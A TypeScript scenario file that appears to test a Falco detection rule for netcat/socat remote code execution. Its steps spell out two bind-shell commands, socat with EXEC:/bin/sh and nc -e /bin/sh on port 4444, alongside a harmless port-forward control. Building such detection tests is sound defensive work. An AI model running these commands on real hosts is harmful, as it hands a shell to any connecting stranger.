import { host, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'netcat-runs-shell-on-host',
  story: 'On the host socat hands a shell to whoever connects.',
  technique: 'T1059',
  place: host,
  falco: ['Netcat/Socat Remote Code Execution on Host'],
  lanner: [],
  steps: [
    run('socat', { with: ['TCP-LISTEN:4444', 'EXEC:/bin/sh'] }),
    run('nc', { with: ['-l', '-p', '4444', '-e', '/bin/sh'] }),
  ],
  twin: {
    because: 'socat passes connections on, and runs nothing.',
    steps: [run('socat', { with: ['TCP-LISTEN:8080', 'TCP:localhost:80'] })],
  },
});
